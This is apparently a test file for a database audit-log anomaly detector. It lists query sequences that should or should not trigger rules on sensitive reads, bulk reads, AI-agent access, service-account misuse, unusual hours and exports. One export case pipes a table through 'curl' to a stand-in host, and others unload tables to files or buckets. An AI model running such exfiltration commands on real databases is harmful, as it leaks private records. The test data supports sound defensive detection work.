import {
  act,
  ann,
  annAtMetabase,
  asAnn,
  at,
  bob,
  dbt,
  denied,
  log,
  query,
  times,
  together,
  workingDays,
  type Ran,
  type RuleCases,
  type Who,
} from '../scene.ts'
import type { SentDraft } from '../judge-drafts.ts'

/** Three weeks of reading some rows a day, and then this. */
function afterWeeks(who: Who, usual: Ran, last: readonly SentDraft[]): SentDraft[] {
  const days = workingDays(19, (day) =>
    times(3, (i) =>
      query(at(day, 10 + i * 2, day), who, `select id from sales.orders where id > ${i}`, usual),
    ),
  )
  return [...days, ...last]
}

const agent: Who = { actor: { type: 'ai_agent', id: 'helper' }, login: 'helper', application: 'helper' }
const salaries = 'select name, amount from hr.salaries where amount > 9000'
const used = (who: Who, sql: string): SentDraft[] =>
  workingDays(14, (day) => [query(at(day), who, sql, { rows: 5 })])
const download = (ms: number, who = ann): SentDraft =>
  act(ms, who, 'audit_log_exported', { data: { format: 'csv' } })

export const dataCases: Record<string, RuleCases> = {
  first_sensitive_read: {
    fires: {
      'some rows': [...log(14), query(at(14), ann, salaries, { rows: 3 })],
      'another tagged table than always': [
        ...used(ann, 'select name from crm.customers where id = 1'),
        query(at(14), ann, salaries, { rows: 3 }),
      ],
      'through a dashboard': [
        ...log(14),
        query(at(14), annAtMetabase, `${asAnn}SELECT * FROM hr.salaries LIMIT 10`),
      ],
      'with a tag that only this company has': [
        ...log(14),
        query(at(14), ann, 'select 1 from wiki.board_minutes'),
      ],
    },
    quiet: {
      'what they always read': [
        ...used(ann, salaries),
        query(at(14), ann, 'select * from hr.salaries limit 5'),
      ],
      'a table without a tag': [...log(14), query(at(14), ann, 'select 1 from sales.orders')],
      'without a tag, through a dashboard': [
        ...log(14),
        query(at(14), annAtMetabase, `${asAnn}SELECT 1 FROM sales.orders`),
      ],
      'a program': [...log(14), query(at(14), dbt, salaries)],
      'it was refused': [...log(14), query(at(14), ann, salaries, denied)],
      'a log that is young': [...log(5), query(at(7), ann, salaries)],
    },
  },
  bulk_sensitive_read: {
    fires: {
      'all rows': [query(at(0), ann, 'select * from crm.customers', { rows: 5000 })],
      'rows not told': [query(at(0), ann, 'SELECT * FROM crm.customers ORDER BY name')],
      'with a condition that leaves all': [
        query(at(0), ann, 'select c.* from crm.customers c where id > 0', { rows: 9000 }),
      ],
      'page by page, in large pages': [
        query(at(0), ann, 'select * from crm.customers limit 250000', { rows: 250_000 }),
      ],
    },
    quiet: {
      'one row': [query(at(0), ann, 'select * from crm.customers where id = 7', { rows: 1 })],
      'with a limit': [query(at(0), ann, 'select * from crm.customers limit 100', { rows: 100 })],
      'a count': [query(at(0), ann, 'select count(*) from crm.customers', { rows: 1 })],
      'a table without a tag': [query(at(0), ann, 'select * from sales.orders', { rows: 90_000 })],
      'a condition, rows not told': [query(at(0), ann, 'select * from crm.customers where id = 7')],
      'a program': [query(at(0), dbt, 'select * from crm.customers', { rows: 90_000 })],
    },
  },
  ai_agent_sensitive: {
    fires: {
      'an actor of its own': [query(at(0), agent, salaries)],
      'by its program': [query(at(0), { ...ann, application: 'claude-code/2.1' }, salaries)],
      'with a tag that only this company has, by its program': [
        query(at(0), { ...ann, application: 'postgres-mcp' }, 'select 1 from wiki.board_minutes'),
      ],
    },
    quiet: {
      'a table without a tag': [query(at(0), agent, 'select 1 from sales.orders')],
      'a person': [query(at(0), ann, salaries)],
      'it was refused': [query(at(0), agent, salaries, denied)],
    },
  },
  service_by_hand: {
    fires: {
      psql: [query(at(0), { ...dbt, application: 'psql' }, 'select 1 from a.b')],
      'another client, as a person': [
        query(at(0), { ...ann, login: 'svc_dbt', application: 'DBeaver 25.2' }, 'select 1 from a.b'),
      ],
      'an account that is not registered': [query(at(0), { ...ann, login: 'svc_etl' }, 'select 1 from a.b')],
    },
    quiet: {
      'its own program': [query(at(0), dbt, 'select 1 from a.b')],
      'a person with their own login': [query(at(0), ann, 'select 1 from a.b')],
      'a dashboard': [query(at(0), annAtMetabase, `${asAnn}SELECT 1 FROM a.b`)],
    },
  },
  service_new_tool: {
    fires: {
      'after two weeks': [
        ...used(dbt, 'select 1 from a.b'),
        query(at(14), { ...dbt, application: 'Tableau 2026.1' }, 'select 1 from a.b'),
      ],
    },
    quiet: {
      'its own tool': used(dbt, 'select 1 from a.b'),
      'a service of yesterday': [
        ...log(1),
        query(at(1), { ...dbt, application: 'airflow' }, 'select 1 from a.b'),
      ],
      'a person': [
        ...used(ann, 'select 1 from a.b'),
        query(at(14), { ...ann, application: 'Tableau 2026.1' }, 'select 1 from a.b'),
      ],
    },
  },
  service_new_program: {
    fires: {
      'after two weeks': [
        ...used({ ...dbt, application: 'our-loader' }, 'select 1 from a.b'),
        query(at(14), { ...dbt, application: 'python-requests/2.32' }, 'select 1 from a.b'),
      ],
    },
    quiet: {
      'its own program': used({ ...dbt, application: 'our-loader' }, 'select 1 from a.b'),
      'a person': [
        ...used({ ...ann, application: 'notebook' }, 'select 1 from a.b'),
        query(at(14), { ...ann, application: 'python-requests/2.32' }, 'select 1 from a.b'),
      ],
    },
  },
  unusual_hours: {
    fires: {
      'in the night': afterWeeks(
        ann,
        { rows: 9 },
        times(2, (i) => query(at(19, 2, i * 9), ann, 'select 1 from a.b')),
      ),
    },
    quiet: {
      once: afterWeeks(
        ann,
        { rows: 9 },
        times(1, (i) => query(at(19, 2, i * 9), ann, 'select 1 from a.b')),
      ),
      'an hour later than usual': afterWeeks(
        ann,
        { rows: 9 },
        times(5, (i) => query(at(18, 15, i * 5), ann, 'select 1 from a.b')),
      ),
      'somebody new': times(5, (i) => query(at(2, 2, i), bob, 'select 1 from a.b')),
      'a program': together(
        workingDays(19, (day) => [query(at(day, 10), dbt, 'select 1 from a.b')]),
        times(5, (i) => query(at(19, 2, i), dbt, 'select 1 from a.b')),
      ),
    },
  },
  rows_above_past: {
    fires: {
      'one query': afterWeeks(ann, { rows: 200 }, [
        query(at(21), ann, 'select id from sales.orders', { rows: 300_000 }),
      ]),
      'page by page': afterWeeks(
        ann,
        { rows: 200 },
        times(20, (i) =>
          query(at(21, 10, i), ann, `select id from sales.orders where id > ${i}`, { rows: 1500 }),
        ),
      ),
    },
    quiet: {
      'some more than usual': afterWeeks(ann, { rows: 2000 }, [
        query(at(21), ann, 'select 1 from a.b', { rows: 12_000 }),
      ]),
      'many times the usual, and still few': afterWeeks(ann, { rows: 10 }, [
        query(at(21), ann, 'select 1 from a.b', { rows: 5000 }),
      ]),
      'what they read every day': afterWeeks(ann, { rows: 90_000 }, [
        query(at(21), ann, 'select 1 from a.b', { rows: 300_000 }),
      ]),
      'somebody new': [
        query(at(0), ann, 'select 1 from a.b', { rows: 10 }),
        query(at(2), ann, 'select 1 from a.b', { rows: 900_000 }),
      ],
      'a program': afterWeeks(dbt, { rows: 20 }, [
        query(at(21), dbt, 'select 1 from a.b', { rows: 900_000 }),
      ]),
    },
  },
  bytes_above_past: {
    fires: {
      'few rows, very wide': afterWeeks(ann, { rows: 50, bytes: 9000 }, [
        query(at(21), ann, 'select document from a.b', { rows: 50, bytes: 900_000_000 }),
      ]),
    },
    quiet: {
      'some megabytes': afterWeeks(ann, { bytes: 9000 }, [
        query(at(21), ann, 'select 1 from a.b', { bytes: 15_000_000 }),
      ]),
      'what they read every day': afterWeeks(ann, { bytes: 300_000_000 }, [
        query(at(21), ann, 'select 1 from a.b', { bytes: 900_000_000 }),
      ]),
    },
  },
  first_export: {
    fires: {
      'a table': [...log(14), query(at(14), ann, 'COPY sales.orders TO STDOUT')],
      'another one than always': [
        ...used(ann, 'copy sales.orders to stdout'),
        query(at(14), ann, 'copy (select * from sales.refunds) to stdout csv'),
      ],
    },
    quiet: {
      'what they always export': used(ann, 'copy sales.orders to stdout'),
      'a program': [...log(14), query(at(14), dbt, 'copy sales.orders to stdout')],
      'an import': [...log(14), query(at(14), ann, 'copy sales.orders from stdin')],
      'a tagged table': [...log(14), query(at(14), ann, 'copy hr.salaries to stdout')],
    },
  },
  sensitive_export: {
    fires: { 'a tagged table': [...log(14), query(at(14), ann, 'copy hr.salaries to stdout')] },
    quiet: {
      'a table without a tag': [...log(14), query(at(14), ann, 'copy sales.orders to stdout')],
      'what they always export': used(ann, 'copy hr.salaries to stdout'),
    },
  },
  export_outside: {
    fires: {
      'into a file': [...log(14), query(at(14), ann, "copy sales.orders to '/tmp/x.csv' csv")],
      'to a program': [...log(14), query(at(14), ann, "copy sales.orders to program 'curl -T - x.example'")],
      'a tagged table, into a bucket': [
        ...log(14),
        query(at(14), ann, "unload ('select 1 from hr.salaries') to 's3://b/x'", { dialect: 'redshift' }),
      ],
      'of MySQL': [
        ...log(14),
        query(at(14), ann, "select * from a.b into outfile '/tmp/x'", { dialect: 'mysql' }),
      ],
      'of Snowflake': [...log(14), query(at(14), ann, 'copy into @~/x from a.b', { dialect: 'snowflake' })],
    },
    quiet: {
      'to the client': [...log(14), query(at(14), ann, 'copy sales.orders to stdout')],
      'what they always export': used(ann, "copy sales.orders to '/tmp/x.csv' csv"),
      'a program': [...log(14), query(at(14), dbt, "copy sales.orders to '/tmp/x.csv' csv")],
      'from a bucket': [
        ...log(14),
        query(at(14), ann, "copy sales.orders from 's3://b/x'", { dialect: 'redshift' }),
      ],
    },
  },
  first_audit_log_export: {
    fires: { 'after two weeks': [...log(14), download(at(14))] },
    quiet: {
      'somebody who does so': [...log(1), download(at(3)), download(at(20))],
      'a log that is young': [...log(5), download(at(7))],
      'a search': [...log(14), act(at(14), ann, 'audit_log_searched')],
    },
  },
  mass_download: {
    fires: {
      'within an hour': times(6, (i) => download(at(0, 10, i * 9))),
      'over the day': times(15, (i) => download(at(0, 5, i * 70))),
      'one that is very large': [act(at(0), ann, 'audit_log_exported', { data: { rows: 400_000 } })],
    },
    quiet: {
      'five within an hour': times(5, (i) => download(at(0, 10, i * 9))),
      'fourteen over a day': times(14, (i) => download(at(0, 5, i * 75))),
      'of several people': times(9, (i) => download(at(0, 10, i * 5), i % 2 === 0 ? ann : bob)),
    },
  },
}
